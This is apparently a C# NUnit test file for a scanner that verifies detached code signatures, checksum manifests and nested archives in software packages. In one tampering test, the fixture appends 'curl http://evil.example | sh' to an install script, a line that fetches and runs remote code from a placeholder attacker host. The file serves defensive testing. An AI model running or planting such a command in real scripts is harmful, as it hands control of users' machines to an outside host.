using System.Text;
using FluentAssertions;
using NUnit.Framework;
using Org.BouncyCastle.Cms;
using Org.BouncyCastle.Utilities.Collections;
using Preflight.Configuration;
using Preflight.Findings;
using Preflight.Reporting;
using static Preflight.Tests.Detectors.Certificates.TestPki;

namespace Preflight.Tests.Detectors.Certificates;

public class DetachedSignatureTests
{
    private static readonly byte[] Payload = Encoding.UTF8.GetBytes("#!/bin/sh\necho installing acme 5.0\n");

    private static (Issued Root, Issued Ica, Issued Signer) Pki()
    {
        var root = Root("CN=Vendor Root");
        var ica = Intermediate("CN=Vendor Code Signing CA", root);
        var signer = Leaf("CN=Vendor Release Signer", ica, eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
        return (root, ica, signer);
    }

    private static async Task<ScanReport> Scan(TempDir dir, string[] trust, params (string Name, object Content)[] entries) =>
        await PreflightScanner.ScanAsync(Zip(dir, entries), ScanOptions.Default with
        {
            AsOf = AsOf,
            TrustedRoots = trust,
            EnabledDetectors = new HashSet<string> { "certificates" },
        });

    [Test]
    public async Task Scan_accepts_a_valid_detached_signature_from_a_trusted_signer()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));

        report.Findings.Should().BeEmpty();
        report.Inventory.Certificates.Select(static c => c.Subject).Should().Contain("CN=Vendor Release Signer");
    }

    [Test]
    public async Task Scan_reports_a_file_altered_after_signing_as_critical()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string trust = dir.File("roots.pem", Pem(root.Certificate));
        byte[] tampered = [.. Payload, .. "curl http://evil.example | sh\n"u8.ToArray()];

        var report = await Scan(dir, [trust], ("bin/install.sh", tampered), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));

        var finding = report.Findings.Should().ContainSingle(f => f.RuleId == "PF616").Subject;
        finding.Severity.Should().Be(Severity.Critical);
        finding.Location.Path.Should().Be("bin/install.sh.p7s");
        finding.Properties["signer"].Should().Be("CN=Vendor Release Signer");
    }

    [Test]
    public async Task Scan_reports_an_untrusted_signer_of_a_valid_signature()
    {
        using var dir = new TempDir();
        var (_, ica, signer) = Pki();
        string trust = dir.File("other.pem", Pem(Root("CN=Someone Else").Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));

        report.Findings.Should().NotContain(f => f.RuleId == "PF616");
        report.Findings.Should().ContainSingle(f => f.RuleId == "PF606" || f.RuleId == "PF605")
            .Which.Location.Path.Should().Be("bin/install.sh.p7s");
    }

    [Test]
    public async Task Scan_reports_a_signature_whose_file_is_missing()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)));

        report.Findings.Should().ContainSingle(f => f.RuleId == "PF617").Which.Properties["signedFile"].Should().Be("bin/install.sh");
    }

    [Test]
    public async Task Scan_reports_the_expired_signer_of_a_verified_signature_as_critical()
    {
        using var dir = new TempDir();
        var root = Root("CN=Vendor Root");
        var ica = Intermediate("CN=Vendor Code Signing CA", root);
        var signer = Leaf("CN=Vendor Release Signer", ica, notBefore: new DateTime(2025, 1, 1, 0, 0, 0, DateTimeKind.Utc),
            notAfter: new DateTime(2026, 6, 1, 0, 0, 0, DateTimeKind.Utc), eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
        var expiredCa = Intermediate("CN=Unrelated Expired CA", root, notBefore: new DateTime(2024, 1, 1, 0, 0, 0, DateTimeKind.Utc),
            notAfter: new DateTime(2026, 6, 1, 0, 0, 0, DateTimeKind.Utc));
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", SignDetached(Payload, signer, ica)),
            ("etc/ca.pem", Pem(expiredCa.Certificate)));

        report.Findings.Where(f => f.RuleId == "PF602").Select(f => (f.Location.Path, f.Severity)).Should().BeEquivalentTo(new[]
        {
            ("bin/install.sh.p7s", Severity.Critical),
            ("etc/ca.pem", Severity.High),
        });
    }
}

public class ChecksumManifestTests
{
    private static string Sha(string s) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(s)));

    [Test]
    public async Task Scan_checks_every_file_of_a_checksum_manifest_mismatched_missing_and_unlisted()
    {
        using var dir = new TempDir();
        string manifest = $"""
            {Sha("good\n")}  bin/good.sh
            {Sha("original\n")} *bin/changed.sh
            SHA256 (bin/gone.sh) = {Sha("gone\n")}
            """;

        string zip = Zip(dir,
            ("acme/SHA256SUMS", manifest + "\n"),
            ("acme/bin/good.sh", "good\n"),
            ("acme/bin/changed.sh", "tampered\n"),
            ("acme/bin/extra.sh", "added later\n"),
            ("other/readme.txt", "outside the manifest's folder\n"));
        var report = await PreflightScanner.ScanAsync(zip, ScanOptions.Default with { AsOf = AsOf, EnabledDetectors = new HashSet<string> { "certificates" } });

        report.Findings.Select(static f => (f.RuleId, f.Location.Line)).Should().BeEquivalentTo(new (string, int?)[]
        {
            ("PF619", 2), ("PF620", 3), ("PF621", null),
        });
        report.Findings.Single(static f => f.RuleId == "PF619").Severity.Should().Be(Severity.Critical);
        report.Findings.Single(static f => f.RuleId == "PF621").Properties["files"].Should().Be("acme/bin/extra.sh");
    }

    [Test]
    public async Task Scan_accepts_a_signed_manifest_that_matches_and_marks_it_signed_in_findings()
    {
        using var dir = new TempDir();
        var root = Root("CN=Root");
        var signer = Leaf("CN=Signer", root, eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
        string manifest = $"{Sha("a\n")}  a.txt\n{Sha("b\n")}  b.txt\n";
        var gen = new CmsSignedDataGenerator();
        gen.AddSigner(signer.Keys.Private, signer.Certificate, CmsSignedGenerator.DigestSha256);
        gen.AddCertificates(CollectionUtilities.CreateStore(new[] { signer.Certificate }));
        byte[] sig = gen.Generate(new CmsProcessableByteArray(Encoding.UTF8.GetBytes(manifest)), false).GetEncoded();
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        string zip = Zip(dir, ("SHA256SUMS", manifest), ("SHA256SUMS.p7s", sig), ("a.txt", "a\n"), ("b.txt", "B\n"));
        var report = await PreflightScanner.ScanAsync(zip, ScanOptions.Default with { AsOf = AsOf, TrustedRoots = [trust], EnabledDetectors = new HashSet<string> { "certificates" } });

        var finding = report.Findings.Should().ContainSingle().Subject;
        finding.RuleId.Should().Be("PF619");
        finding.Properties["file"].Should().Be("b.txt");
        finding.Properties["signedManifest"].Should().Be("true");
        finding.Message.Should().Contain("signed manifest");
    }
}

public class NestedArchiveManifestTests
{
    private static string Sha(byte[] b) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(b));

    private static byte[] InnerZip(string text)
    {
        using var dir = new TempDir();
        return File.ReadAllBytes(Zip(dir, ("conf/plugin.ini", text)));
    }

    private static byte[] InnerTarGz(string text)
    {
        using var tar = new MemoryStream();
        using (var writer = new System.Formats.Tar.TarWriter(tar, System.Formats.Tar.TarEntryFormat.Ustar, leaveOpen: true))
        {
            using var data = new MemoryStream(Encoding.UTF8.GetBytes(text));
            writer.WriteEntry(new System.Formats.Tar.UstarTarEntry(System.Formats.Tar.TarEntryType.RegularFile, "conf/tool.ini") { DataStream = data });
        }
        using var gz = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(gz, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true)) gzip.Write(tar.ToArray());
        return gz.ToArray();
    }

    private static async Task<ScanReport> Scan(TempDir dir, params (string Name, object Content)[] entries) =>
        await PreflightScanner.ScanAsync(Zip(dir, entries), ScanOptions.Default with { AsOf = AsOf, EnabledDetectors = new HashSet<string> { "certificates" } });

    [Test]
    public async Task Scan_verifies_a_manifest_line_for_a_nested_zip_against_the_zips_own_bytes()
    {
        using var dir = new TempDir();
        byte[] plugins = InnerZip("[plugin]\nenabled=true\n");
        byte[] extras = InnerZip("[extras]\n");

        var report = await Scan(dir,
            ("lib/SHA256SUMS", $"{Sha(plugins)}  plugins.zip\n{Sha(InnerZip("[extras] original\n"))}  extras.zip\n"),
            ("lib/plugins.zip", plugins),
            ("lib/extras.zip", extras));

        var finding = report.Findings.Should().ContainSingle().Subject;
        finding.RuleId.Should().Be("PF619");
        finding.Properties["file"].Should().Be("lib/extras.zip");
        finding.Location.Line.Should().Be(2);
    }

    [Test]
    public async Task Scan_reports_a_manifest_line_for_a_streamed_nested_archive_as_not_verified_instead_of_missing()
    {
        using var dir = new TempDir();
        byte[] tools = InnerTarGz("[tool]\n");

        var report = await Scan(dir, ("lib/SHA256SUMS", $"{Sha(tools)}  tools.tar.gz\n"), ("lib/tools.tar.gz", tools));

        var finding = report.Findings.Should().ContainSingle().Subject;
        finding.RuleId.Should().Be("PF618");
        finding.Severity.Should().Be(Severity.Info);
        finding.Properties["verified"].Should().Be("false");
        finding.Message.Should().Contain("'lib/tools.tar.gz' is a nested archive");
    }
}
